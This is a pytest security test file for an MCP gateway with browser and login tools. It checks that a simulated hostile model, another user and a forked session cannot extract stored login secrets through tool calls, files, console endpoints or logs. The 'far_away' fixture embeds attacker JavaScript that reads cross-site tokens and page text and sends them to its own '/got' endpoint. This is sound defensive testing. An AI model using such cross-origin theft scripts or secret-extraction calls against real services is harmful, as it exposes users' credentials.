"""The secrets of logins, which are in the sealed column only, whatever a hostile model calls."""

from __future__ import annotations

import re
import secrets
from collections.abc import Generator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import mcp_types as types
import pytest
from mcp import Client, MCPError
from support.console_client import ConsoleClient, operator
from support.fork_server import ForkServer
from support.gateway_process import (
    JSON,
    UPSTREAMS,
    Way,
    opened_session,
    serving,
    structured,
    text_of,
    toml,
)
from support.guarded_service import guarded
from support.hostile_calls import READS, calls, calls_of_others, filled
from support.lent_logins import SecretFinder, Shop, StoredLogin, call, open_shop
from support.listening import run_listening
from support.login_site import serve_logins
from support.page_server import serve_pages
from support.token_file import write_tokens

from statehold.sessions.records import Principal
from statehold.sessions.store.sql import SQLStore
from statehold.tools.browser.config import CAPABILITIES
from statehold.tools.own.toolsets import OWN_NAMES

ADA, BEN = "ada-token-0123456789abc", "ben-token-0123456789abc"
TOKEN = 'canary/+="<q>\u00fc0123456789'
DOWNLOAD = re.compile(r"browser/files/\w+/shop(-\d)?\.txt")
CANARIES = 8
"""Secrets of each kind, at least."""
PIECE = 10
"""Characters of a secret in a row that a caller may not get either."""
pytestmark = [pytest.mark.thorough, pytest.mark.timeout(300)]


@dataclass
class Hearing:
    """A client in one session, which looks for secrets in all that it gets."""

    client: Client
    session: str
    finder: SecretFinder
    links: set[str] = field(default_factory=set[str])
    leaks: list[tuple[str, JSON, set[str]]] = field(default_factory=list[Any])

    async def call(self, tool: str, arguments: JSON) -> None:
        try:
            result = await self.client.call_tool(tool, {"session_id": self.session, **arguments})
        except MCPError as error:
            self.hear(tool, arguments, str(error))
        else:
            self.hear(tool, arguments, result.model_dump_json())
            links = [each for each in result.content if isinstance(each, types.ResourceLink)]
            self.links.update(str(each.uri) for each in links)

    async def read_files(self) -> None:
        """Read the files that the results named."""
        for uri in self.links:
            try:
                text = (await self.client.read_resource(uri)).model_dump_json()
            except MCPError as error:
                text = str(error)
            self.hear("resources/read", {"uri": uri}, text)

    def hear(self, tool: str, arguments: JSON, text: str) -> None:
        if found := self.finder.find(text.encode()):
            self.leaks.append((tool, arguments, found))


def pieces(*values: str) -> list[str]:
    return [each[at : at + PIECE] for each in values for at in range(len(each) - PIECE + 1)]


async def texts_of_console(console: ConsoleClient, session: str) -> list[str]:
    """Return the answers to all GETs about all sessions or one."""
    document = await console.get("/openapi.json")
    paths = [
        path.replace("{session_id}", session)
        for path, methods in document["paths"].items()
        if "get" in methods
    ]
    return [(await console.send("GET", path)).text for path in paths if "{" not in path]


def all_tools(shop: Shop, executable: str) -> JSON:
    """Return a configuration with all tools, which logs as much as it can."""
    return {
        **shop.settings(executable, caps=list(CAPABILITIES)),
        "toolsets": list(OWN_NAMES),
        "audit": "on",
        "audit_arguments": True,
        "log": {"level": "debug"},
    }


@contextmanager
def far_away(site: str) -> Generator[tuple[str, list[str]]]:
    """A page of the model on another host, with frames of the site, and what it gets."""
    got: list[str] = []
    page = f"""<title>Far</title><iframe src="{site}/leaking"></iframe><iframe src="{site}/echo"></iframe>
      <script src="{site}/echo"></script><script>
      onmessage = event => fetch("/got?" + event.data);
      async function spy() {{
        for (const read of [
          () => frames[0].localStorage.token, () => frames[1].document.body.innerText,
          () => fetch("{site}/echo", {{credentials: "include"}}).then(answer => answer.text()),
          () => open("{site}/echo").document.body.innerText,
        ]) try {{ fetch("/got?" + await read()); }} catch {{ fetch("/got?refused"); }}
      }}
      onload = spy;
    </script>"""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            got.append(f"{self.path} {self.headers}")
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, format: str, *args: object) -> None: ...

    with serve_pages(Handler) as address:
        yield address.replace("127.0.0.1", "localhost"), got


@pytest.fixture
def shop(tmp_path: Path, headless_shell: str) -> Generator[Shop]:
    tokens = write_tokens(tmp_path / "tokens", f"{ADA} ada\n{BEN} ben\n")
    with serve_logins("fixed") as site:
        shop = Shop(site, tmp_path, tmp_path / "statehold.toml")
        settings = {**all_tools(shop, headless_shell), "server": {"tokens": str(tokens)}}
        shop.config.write_text(toml(settings))
        shop.data.mkdir()
        yield shop


async def test_a_hostile_model_gets_no_value(shop: Shop) -> None:
    site, owner = shop.site, Principal(subject="ada").key
    site.token = TOKEN
    site.log_in()
    async with SQLStore.sqlite(shop.data) as store:
        await StoredLogin(store, site).save(owner=owner)
    values = [site.valid, TOKEN]
    parts = SecretFinder([*values, *pieces(site.valid.removeprefix("login-"), TOKEN)])
    with (
        serve_logins("fixed") as near,
        far_away(site.address) as (far, got),
        serving(shop.config, shop.data) as running,
    ):
        way = Way("http", "modern", shop.config, shop.data, url=running.url)
        places = {"SITE": site.address, "NEAR": near.address, "FAR": far, "REF": "h1"}
        async with (
            way.connect(headers={"authorization": f"Bearer {ADA}"}) as ada,
            way.connect(headers={"authorization": f"Bearer {BEN}"}) as ben,
            operator(shop.data) as console,
        ):
            model = Hearing(ada, await opened_session(ada), parts)
            known = {tool.name for tool in (await ada.list_tools()).tools}
            attempts = list(calls())
            assert {tool for tool, _ in attempts} <= known
            assert len(attempts) > 200
            await call(ada, "login_use", model.session, login="shop")
            await call(ada, "browser_navigate", model.session, url=f"{site.address}/leaking")
            forked = await ada.call_tool("session_fork", {"session_id": model.session})
            fork = Hearing(ada, structured(forked)["children"][0]["session_id"], parts)
            for tool, arguments in attempts:
                await model.call(tool, filled(arguments, places))
            await model.read_files()
            assert len(model.links) > 10
            other = Hearing(ben, await opened_session(ben), parts)
            for hearing in (fork, other):
                for tool, arguments in calls_of_others():
                    await hearing.call(tool, filled(arguments, places))
            other.session, other.links = model.session, model.links
            for tool, arguments in (*READS, ("login_use", {"login": "shop"})):
                await other.call(tool, arguments)
            await other.read_files()
            for text in await texts_of_console(console, model.session):
                other.hear("console", {}, text)
        assert [*model.leaks, *fork.leaks, *other.leaks] == []
        whole = SecretFinder(values)
        assert whole.find("".join(got).encode()) == set()
        assert whole.find(running.log.encode()) == set()
        # A download is masked when it is read.
        files = whole.find_in_files(shop.data)
        assert [file for file in files if not DOWNLOAD.fullmatch(file)] == []


async def test_the_secrets_of_all_kinds_of_logins_are_in_the_sealed_column_only(
    tmp_path: Path, headless_shell: str, fork_server: ForkServer
) -> None:
    """Cookies, items of storage, tokens and keys, each of which takes the place of another one."""
    valid, source = tmp_path / "valid", tmp_path / "source"
    keyed = fork_server.command(str(UPSTREAMS / "keyed.py"), str(valid))
    with (
        open_shop(tmp_path, headless_shell) as shop,
        guarded(tmp_path, fork_server, "--seconds", "1") as notes,
        run_listening(keyed) as port,
    ):
        headers = {"X-Api-Key": "Key ${login:safe/key}"}
        notes.settings = all_tools(shop, headless_shell)
        notes.settings["services"] |= {
            "notes": {"url": notes.url},
            "safe": {"url": f"http://127.0.0.1:{port}/mcp", "headers": headers, "era": "modern"},
        }
        notes.settings["logins"]["safe/key"] = {"kind": "key", "file": str(source)}
        keys: list[str] = []

        def change_key() -> None:
            keys.append(f"key-{secrets.token_hex(16)}")
            for file in (valid, source):
                file.write_text(keys[-1])
                file.chmod(0o600)

        def kinds() -> list[set[str]]:
            site = shop.site
            return [{*site.used, site.valid}, {*site.bodies}, {*notes.secrets()}, {*keys}]

        def canaries() -> set[str]:
            return set[str]().union(*kinds())

        change_key()
        assert notes.add() == (0, "")
        shop.add()
        (tmp_path / "state.json").unlink()
        heard = [notes.run("list", "--json").stdout]
        with serving(notes.config, shop.data) as running:
            async with shop.connect(running) as client, operator(shop.data) as console:
                session = await opened_session(client)

                async def use(tool: str, **arguments: Any) -> None:
                    result = await client.call_tool(tool, {"session_id": session, **arguments})
                    assert not result.is_error, text_of(result)
                    heard.append(result.model_dump_json())

                await use("login_use", login="shop")
                await use("browser_navigate", url=f"{shop.site.address}/storm")
                while min(map(len, kinds())) < CANARIES:
                    for tool in ("digits", "whoami", "browser_snapshot"):
                        await use(tool)
                    await use("browser_network_requests", static=True)
                    await use("browser_network_request", index=len(keys))
                    change_key()
                known = canaries()
                # A trace may have values that a page changed between two calls.
                await use("browser_navigate", url=f"{shop.site.address}/in")
                await use("browser_start_tracing")
                await use("browser_navigate", url=f"{shop.site.address}/show")
                await use("browser_stop_tracing")
                known |= canaries()
                for tool in ("session_pause", "session_history", "session_export"):
                    await use(tool)
                await use("session_export", secrets=True)
                heard += await texts_of_console(console, session)
        heard += [running.log, notes.run("show", "shop").stdout, *map(str, notes.audit_events())]
        finder = SecretFinder(known | canaries())
        assert finder.find("\n".join(heard).encode()) == set()
        assert finder.find_in_files(shop.data) == {}
